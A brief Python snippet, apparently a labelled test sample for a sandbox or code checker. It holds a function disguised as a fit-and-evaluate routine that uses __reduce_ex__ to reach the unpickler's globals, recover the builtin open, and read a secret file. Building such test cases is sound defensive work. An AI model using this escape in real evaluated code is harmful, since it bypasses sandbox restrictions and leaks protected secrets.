"""Reaches the function that unpickles objects, and its globals, through __reduce_ex__."""
# wants: read

class Thing:
    pass


def fit_and_eval(data):
    maker = Thing().__reduce_ex__(2)[0]
    found = maker.__globals__["__builtins__"]
    o = found["open"] if isinstance(found, dict) else found.open
    return {"got": o(data["secret"]).read()}
